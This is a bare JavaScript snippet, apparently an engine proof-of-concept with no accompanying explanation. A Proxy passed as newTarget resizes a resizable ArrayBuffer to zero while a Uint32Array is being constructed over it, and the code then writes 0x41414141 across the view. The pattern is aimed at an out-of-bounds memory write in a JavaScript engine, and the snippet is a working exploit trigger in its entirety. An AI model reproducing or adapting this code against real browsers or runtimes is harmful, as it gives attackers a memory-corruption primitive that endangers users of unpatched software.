const ab = new ArrayBuffer(1 << 20, { maxByteLength: 1 << 20 });
const Evil = new Proxy(function () {}, { get(t, p, r) { if (p === "prototype") { ab.resize(0); return Uint32Array.prototype; } return Reflect.get(t, p, r); } });
function process(d) { const u = Reflect.construct(Uint32Array, [ab, 0, 1 << 18], Evil); for (let i = 0; i < u.length; i++) u[i] = 0x41414141; return u.length; }
